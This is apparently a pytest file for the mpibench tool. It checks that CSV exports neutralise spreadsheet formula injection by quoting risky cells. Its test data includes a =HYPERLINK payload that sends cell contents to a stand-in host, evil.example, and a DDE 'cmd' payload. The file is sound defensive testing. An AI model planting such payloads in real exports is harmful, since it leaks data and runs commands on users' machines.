"""CSV output never carries a formula: a text cell starting with = + - @ tab or CR (an import
label =HYPERLINK(...), a derived unit, a parameter value) gets a leading quote mark in every
CSV mpibench writes; numbers are written as they are."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from mpibench.cli import main
from mpibench.report.render import csv_cell, csv_text
from support import fuzz as _fuzz

SRC = Path(__file__).resolve().parents[2] / "src" / "mpibench"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _formula(cell: str) -> bool:
    return cell.lstrip("\r\n")[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"-?[0-9.]+(e[+-]?[0-9]+)?", cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_neutralised(value):
    assert csv_cell(value) == "'" + value.replace("\r", "\n")
    assert not any(_formula(c) for c in _cells(csv_text([{"label": value, value: 1}])))


def test_numbers_and_plain_text_are_unchanged():
    assert csv_cell(-3.5) == -3.5 and csv_cell(-2) == -2 and csv_cell(None) is None
    assert csv_cell("tcp") == "tcp" and csv_cell("a=b") == "a=b"
    assert _cells(csv_text([{"gain": -0.25, "label": "vader"}])) == ["gain", "label",
                                                                     "-0.25", "vader"]


@pytest.mark.parametrize("argv", [
    ["compare", "--db", "s.db", "--format", "csv"],
    ["compare", "--db", "s.db", "--label", "LABEL", "--label", "b", "--format", "csv"],
    ["compare", "--db", "s.db", "--label", "LABEL", "--format", "csv"],
])
@pytest.mark.parametrize("label", HOSTILE[:4])
def test_compare_csv_of_an_import_labelled_with_a_formula(tmp_path, capsys, argv, label):
    # found by the hostile-user round: an import label =HYPERLINK(...) came out as a cell
    # beginning with '=' in compare --format csv
    fx = [p for p in _fuzz.FIXTURES if p.name.endswith(("btl-tcp.txt", "btl-vader.txt"))]
    db = str(tmp_path / "s.db")
    assert main(["import", str(fx[0]), f"--label={label}", "--db", db]) == 0
    assert main(["import", str(fx[1]), "--label", "b", "--db", db]) == 0
    capsys.readouterr()
    real = " ".join(argv).replace("--label LABEL", "--label=LABEL").split()
    rc = main([f"--label={label}" if a == "--label=LABEL" else db if a == "s.db" else a
               for a in real])
    out = capsys.readouterr().out
    assert rc in (0, 1), out
    cells = _cells(out)
    if argv.count("--label") != 1:   # one set's results table names no set
        assert any(label in c for c in cells), out[:500]
    assert not [c for c in cells if _formula(c)], out[:1000]


def test_every_csv_writer_goes_through_csv_rows():
    """A new CSV output cannot skip the neutralising: csv.writer / DictWriter appear only in
    report/render.py's csv_rows."""
    users = sorted(str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                   if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", p.read_text()))
    assert users == ["report/render.py"], users
